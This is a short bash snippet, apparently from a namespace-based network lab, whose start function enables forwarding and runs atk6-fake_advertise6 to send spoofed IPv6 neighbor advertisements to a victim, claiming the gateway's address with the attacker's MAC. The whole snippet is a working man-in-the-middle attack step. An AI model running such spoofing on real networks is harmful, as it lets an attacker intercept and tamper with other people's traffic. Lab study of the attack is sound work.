# shellcheck shell=bash
# Only the resolver's address is taken over (the router's global one), by advertisements to the victim alone.
start() { att_forward; mark
  sbg attacker na atk6-fake_advertise6 -w 2 eth0 $GW_IP6 "$(ns victim ip -6 addr show dev eth0 scope link | sed -n 's/.*inet6 \([0-9a-f:]*\).*/\1/p')" $ATT_MAC; }
